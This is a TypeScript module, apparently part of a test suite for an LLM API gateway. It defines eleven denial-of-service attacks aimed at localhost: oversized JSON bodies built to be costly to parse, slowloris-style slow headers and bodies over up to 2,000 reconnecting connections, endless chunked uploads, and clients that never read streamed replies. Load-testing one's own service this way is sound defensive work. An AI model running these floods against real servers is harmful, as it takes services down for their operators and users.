import { connect, type Socket } from 'node:net';
import { Random } from '../fuzz/random.ts';
import { MODEL } from '../kit/config.ts';

/** Where an attack goes. */
export interface Target {
  readonly port: number;
  /** A key of the attacker's; what it may do is no defence. */
  readonly key: string;
  readonly seed: number;
}

/** Something that wants the gateway's memory or its places; runs until it is stopped. */
export interface Attack {
  readonly name: string;
  readonly start: (target: Target) => () => void;
}

const MEGABYTES_8 = 8_000_000;
const head = (key: string, framing: string): string =>
  `POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${key}\r\ncontent-type: application/json\r\n${framing}\r\n\r\n`;

/** Connections that are opened again as soon as they are closed. */
function lines(count: number, port: number, use: (socket: Socket, nth: number) => void): () => void {
  let over = false;
  const sockets = new Set<Socket>();
  const open = (nth: number): void => {
    if (over) return;
    const socket = connect(port, '127.0.0.1', () => use(socket, nth));
    sockets.add(socket);
    socket.on('error', () => {});
    socket.on('data', () => {});
    socket.on('close', () => {
      sockets.delete(socket);
      setTimeout(() => open(nth), 50);
    });
  };
  for (let nth = 0; nth < count; nth++) open(nth);
  return () => {
    over = true;
    for (const socket of sockets) socket.destroy();
  };
}

/**
 * As a network card would bring it. One call of the system that copies eight megabytes keeps a core of this machine busy for
 * 50 to 200 ms, whatever the priority of its process: gateway and neighbour would wait for the attacker, not for the gateway.
 */
const PIECE_BYTES = 65_536;

/** Sends bytes as fast as they are taken. */
function pour(socket: Socket, bytes: Buffer): void {
  let sent = 0;
  const more = (): void => {
    if (socket.destroyed || sent >= bytes.length) return;
    const piece = bytes.subarray(sent, sent + PIECE_BYTES);
    sent += piece.length;
    if (socket.write(piece)) setImmediate(more);
    else socket.once('drain', more);
  };
  more();
}

/** The same body over and over, by some connections. */
const bodies =
  (count: number, make: (target: Target) => string) =>
  (target: Target): (() => void) => {
    const body = Buffer.from(make(target));
    const start = head(target.key, `content-length: ${body.length}`);
    return lines(count, target.port, (socket) => {
      socket.once('data', () => setTimeout(() => socket.destroy(), 20));
      socket.write(start);
      pour(socket, body);
    });
  };

const prompt = (more: object): string =>
  JSON.stringify({ model: MODEL, messages: [{ role: 'user', content: 'x' }], max_tokens: 5, ...more });

/** Bodies that are small as text and large once they are parsed. */
const filled = (start: string, piece: (n: number) => string, end: string): string => {
  let text = start;
  for (let n = 0; text.length < MEGABYTES_8 - 100; n++) text += piece(n);
  return text + end;
};

const every = (ms: number, work: () => void): (() => void) => {
  const timer = setInterval(work, ms);
  return () => clearInterval(timer);
};

export const ATTACKS: readonly Attack[] = [
  { name: 'four bodies of 8 MB of [[[[', start: bodies(4, () => '['.repeat(MEGABYTES_8)) },
  {
    name: 'four bodies of 8 MB of empty objects',
    start: bodies(4, () => filled(`{"model":"${MODEL}","x":[`, () => '{},', '{}]}')),
  },
  {
    name: 'four bodies of 8 MB of members',
    start: bodies(4, ({ seed }) => {
      const random = new Random(seed);
      return filled('{', () => `"${random.below(1e9).toString(36)}":1,`, '"z":1}');
    }),
  },
  {
    name: '1,030 bodies at 1.5 KB a second',
    start({ port, key }) {
      const slow: Socket[] = [];
      const stop = lines(1030, port, (socket) => {
        slow.push(socket);
        socket.write(`${head(key, 'content-length: 4000000')}{`);
      });
      const stopTicks = every(2000, () => {
        for (const socket of slow) if (!socket.destroyed) socket.write('a'.repeat(3000));
      });
      return () => {
        stopTicks();
        stop();
      };
    },
  },
  {
    name: '100 bodies of 8 MB, half sent',
    start({ port, key }) {
      const half = Buffer.from(`{"model":"${'x'.repeat(MEGABYTES_8 / 2)}`);
      return lines(100, port, (socket) => {
        socket.write(head(key, `content-length: ${MEGABYTES_8}`));
        pour(socket, half);
      });
    },
  },
  {
    name: 'eight endless bodies without a key',
    start: ({ port }) =>
      lines(8, port, (socket) => {
        const chunk = `10000\r\n${'x'.repeat(65_536)}\r\n`;
        socket.write(head('nobody', 'transfer-encoding: chunked'));
        const pump = (): void => {
          if (socket.destroyed) return;
          if (socket.write(chunk)) setTimeout(pump, 1);
          else socket.once('drain', pump);
        };
        pump();
      }),
  },
  {
    name: '2,000 connections that send a header a letter a second',
    start({ port }) {
      const slow: Socket[] = [];
      const stop = lines(2000, port, (socket) => {
        slow.push(socket);
        socket.write('POST /v1/chat/completions HTTP/1.1\r\nx-');
      });
      const stopTicks = every(1000, () => {
        for (const socket of slow) if (!socket.destroyed) socket.write('a');
      });
      return () => {
        stopTicks();
        stop();
      };
    },
  },
  {
    name: '24 prompts of 7.5 MB that wait for their answer',
    start: bodies(24, () =>
      prompt({ model: 'held', messages: [{ role: 'user', content: 'word '.repeat(1_500_000) }] }),
    ),
  },
  {
    name: 'four streams whose first event is 4 MB in pieces of 200 bytes',
    start: bodies(4, () => prompt({ model: 'drip', stream: true })),
  },
  {
    name: '20 streams that begin with 64 KB of single bytes',
    start: bodies(20, () => prompt({ model: 'crumbs', stream: true })),
  },
  {
    name: '100 clients that ask for an event of 4 MB and read nothing',
    start({ port, key }) {
      const body = prompt({ model: 'drip', stream: true });
      return lines(100, port, (socket) => {
        socket.pause();
        socket.write(`${head(key, `content-length: ${body.length}`)}${body}`);
      });
    },
  },
];
